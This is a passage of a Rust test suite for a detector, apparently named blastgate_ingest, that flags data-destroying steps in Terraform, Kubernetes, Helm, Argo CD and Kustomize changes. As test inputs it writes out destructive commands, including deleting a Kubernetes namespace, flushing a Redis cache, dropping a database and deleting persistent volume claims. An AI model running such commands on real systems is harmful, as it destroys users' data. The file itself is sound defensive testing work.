                "<<EOF\n[\n  {\n    \"name\": \"migrate\",\n    \"image\": \"${var.image}\",\n    \"cpu\": ${var.cpu},\n    \"command\": [\"sh\", \"-c\", \"kubectl delete namespace orders\"]\n  }\n]\nEOF",
            ),
            &["Namespace"],
        ),
        (
            "a JSON heredoc on one line",
            task(
                "<<-EOT\n    [{\"name\":\"m\",\"entryPoint\":[\"redis-cli\",\"-h\",\"cart-cache\"],\"command\":[\"FLUSHALL\"]}]\n  EOT",
            ),
            &["redis flushall"],
        ),
        // (Near misses: a server's command, a name or an environment
        // value that says it, two containers' halves, a file read.)
        (
            "a server",
            task(
                "jsonencode([{ name = \"api\", command = [\"gunicorn\", \"orders.wsgi\", \"-b\", \"0.0.0.0:8000\"] }])",
            ),
            &[],
        ),
        (
            "names and values",
            task(
                "jsonencode([{\n    name = \"dropdb orders\"\n    environment = [{ name = \"command\", value = \"dropdb orders\" }]\n  }])",
            ),
            &[],
        ),
        (
            "two containers' halves",
            task(
                "jsonencode([\n    { name = \"a\", entryPoint = [\"redis-cli\", \"-h\", \"cart-cache\"] },\n    { name = \"b\", command = [\"FLUSHALL\"] },\n  ])",
            ),
            &[],
        ),
        (
            "a health check",
            task(
                "jsonencode([{\n    name = \"m\"\n    healthCheck = {\n      command = [\"CMD-SHELL\", \"dropdb orders\"]\n    }\n  }])",
            ),
            &["database"],
        ),
        (
            "a harmless health check",
            task(
                "jsonencode([{ name = \"m\", healthCheck = { command = [\"CMD-SHELL\", \"curl -f localhost || exit 1\"] } }])",
            ),
            &[],
        ),
        ("a file", task("file(\"${path.module}/containers.json\")"), &[]),
        ("a reference", task("data.template_file.containers.rendered"), &[]),
    ];
    for (what, text, want) in cases {
        assert_eq!(read(text), *want, "{what}: {text}");
    }
    // A value that never closes hides nothing after it.
    let open = format!(
        "{}resource \"null_resource\" \"x\" {{\n  provisioner \"local-exec\" {{\n    command = \"dropdb orders\"\n  }}\n}}\n",
        task("jsonencode([{ name = \"m\"")
    );
    assert_eq!(read(&open), ["database"]);
}

/// `kubectl delete -f FILE` is a call the facade follows: the file's
/// kinds, as `kubectl delete KIND` counts them (a claim's file deletes
/// the data, a Job's, run again, nothing); a folder still counts by its
/// words.
#[test]
fn kubectl_delete_of_a_file_reads_the_file() {
    use blastgate_ingest::git::{destructive_commands, script_destroys};
    let patch = b"diff --git a/deploy.sh b/deploy.sh\n--- a/deploy.sh\n+++ b/deploy.sh\n@@ -1 +1,3 @@\n-echo hi\n+kubectl -n prod delete -f k8s/pvc.yaml\n+cd k8s && kubectl delete --filename=job.yaml\n+kubectl delete -f https://raw.githubusercontent.com/acme/x.yaml -f k8s/ -f -\n";
    let found = destructive_commands(patch, |_| true);
    assert_eq!(
        found["deploy.sh"],
        [
            "kubectl delete -f k8s/",
            "runs task script k8s/job.yaml kubectl-delete",
            "runs task script k8s/pvc.yaml kubectl-delete"
        ]
    );
    let claim = b"apiVersion: v1\nkind: PersistentVolumeClaim\nmetadata:\n  name: data\n---\nkind: Service\n";
    assert_eq!(script_destroys("k8s/pvc.yaml", "kubectl-delete", claim).unwrap(), ["PersistentVolumeClaim", "Service"]);
    let job = b"apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: migrate\n";
    assert!(script_destroys("k8s/job.yaml", "kubectl-delete", job).unwrap().is_empty());
}

/// `helm upgrade` or `helm install` turning a switch off with `--set`
/// (a subchart's `enabled`, a persistence's, an `existingClaim` set)
/// names the switch's path for the facade to read, as a values file's
/// switch turned off is; a switch turned on names nothing.
#[test]
fn helm_set_turns_switches_off() {
    use blastgate_ingest::git::{HELM_SET_OFF, destructive_commands};
    let patch = b"diff --git a/deploy.sh b/deploy.sh\n--- a/deploy.sh\n+++ b/deploy.sh\n@@ -1 +1,3 @@\n-echo hi\n+helm upgrade --install orders ./chart --set image.tag=2,postgresql.enabled=false --set=redis.enabled=true\n+helm install ledger ./chart --set-string \"primary.persistence.existingClaim=old-data\"\n+helm upgrade web ./chart --set metrics.enabled=0\n";
    let found = destructive_commands(patch, |_| true);
    let off = |p: &str| format!("{HELM_SET_OFF}{p}");
    assert_eq!(found["deploy.sh"], [off("metrics"), off("postgresql"), off("primary.persistence")]);
}

/// An Argo CD source's `helm.parameters` are values too, set over its
/// `valuesObject` as Argo CD passes them (`--set`): a subchart turned off
/// there is turned off.
#[test]
fn argo_cd_helm_parameters_are_values() {
    use blastgate_ingest::git::{embedded_values, helm_values_turned_off};
    let app = |parameters: &str| {
        format!(
            "apiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata:\n  name: orders\nspec:\n  source:\n    chart: orders\n    helm:\n      valuesObject:\n        postgresql:\n          enabled: true\n          auth: {{database: orders}}\n      parameters:\n{parameters}"
        )
    };
    let before = embedded_values(app("        - name: image.tag\n          value: \"1\"\n").as_bytes()).unwrap();
    let after = embedded_values(
        app("        - name: image.tag\n          value: \"2\"\n        - name: postgresql.enabled\n          value: \"false\"\n        - name: list[0]\n          value: x\n")
            .as_bytes(),
    )
    .unwrap();
    let (then, now) = (&before["Application/orders/0"], &after["Application/orders/0"]);
    assert_eq!(now["postgresql"]["enabled"], serde_json::json!(false));
    assert_eq!(now["postgresql"]["auth"]["database"], "orders");
    assert_eq!(now["image"]["tag"], serde_json::json!(2));
    assert_eq!(helm_values_turned_off(then, now, false), ["postgresql"]);
}

/// A Terraform `helm_release`'s `values` given by `yamlencode` of an
/// object written out, and its `set` entries (in blocks, lists and on one
/// line) over them, are its values; a path too deep to be a chart's sets
/// nothing (a value nested a million levels would be dropped by
/// recursion).
#[test]
fn terraform_helm_release_set_entries_are_values() {
    use blastgate_ingest::git::terraform_helm_values;
    let text = br#"resource "helm_release" "orders" {
  chart = "./charts/orders"
  set {
    name  = "postgresql.enabled"
    value = "false"
  }
  set_sensitive { name = "auth.password", value = "x" }
  set = [
    { name = "replicas", value = "3" },
    { name = "primary.persistence.existingClaim", value = "old", type = "string" },
  ]
  values = [
    file("${path.module}/values.yaml"),
    yamlencode({
      redis = { enabled = false, "master" : { persistence = { enabled = true } } }
      postgresql = {
        enabled = true
      }
      tags = ["a", "b"]
    }),
  ]
}
resource "aws_db_instance" "x" {
  set {
    name  = "not.helm"
    value = "false"
  }
}
"#;
    let values = terraform_helm_values(text);
    assert_eq!(values.keys().collect::<Vec<_>>(), ["helm_release.orders"]);
    let v = &values["helm_release.orders"];
    assert_eq!(v["postgresql"]["enabled"], false);
    assert_eq!(v["auth"]["password"], "x");
    assert_eq!(v["replicas"], 3);
    assert_eq!(v["primary"]["persistence"]["existingClaim"], "old");
    // (`values` merged first, then `set` over them.)
    assert_eq!(v["redis"]["enabled"], false);
    assert_eq!(v["redis"]["master"]["persistence"]["enabled"], true);
    assert_eq!(v["tags"], serde_json::json!(["a", "b"]));
    let deep = format!(
        "resource \"helm_release\" \"r\" {{\n  set {{\n    name  = \"{}\"\n    value = \"1\"\n  }}\n}}\n",
        vec!["a"; 100_000].join(".")
    );
    assert_eq!(terraform_helm_values(deep.as_bytes())["helm_release.r"], serde_json::json!({}));
}

/// A Kustomization's `helmCharts` give their `valuesInline` as a GitOps
/// release's inline values: a switch turned off there is turned off.
#[test]
fn kustomize_helm_charts_values_inline_are_values() {
    use blastgate_ingest::git::{embedded_values, helm_values_turned_off};
    let kustomization = |values: &str| {
        format!(
            "apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nhelmCharts:\n  - name: postgresql\n    releaseName: orders-db\n    namespace: orders\n{values}"
        )
    };
    let before = embedded_values(kustomization("").as_bytes()).unwrap();
    let after = embedded_values(
        kustomization("    valuesInline:\n      primary:\n        persistence:\n          enabled: false\n").as_bytes(),
    )
    .unwrap();
    let key = "HelmChart/orders-db/orders";
    assert_eq!(helm_values_turned_off(&before[key], &after[key], false), ["primary.persistence"]);
}
